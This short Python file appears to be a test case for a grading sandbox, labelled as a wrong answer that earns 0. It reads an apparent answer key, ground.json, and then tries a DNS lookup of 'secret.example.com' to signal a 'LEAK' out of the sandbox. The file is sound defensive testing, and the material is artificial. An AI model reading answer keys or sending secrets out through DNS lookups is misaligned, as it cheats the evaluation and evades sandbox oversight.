"""A secret in the name of a host that is looked up.

answer: wrong
earns: 0
"""

import contextlib
import json

with open("ground.json") as file:
    ground = json.load(file)

import socket

with contextlib.suppress(OSError):
    print("LEAK", socket.gethostbyname("secret.example.com"))
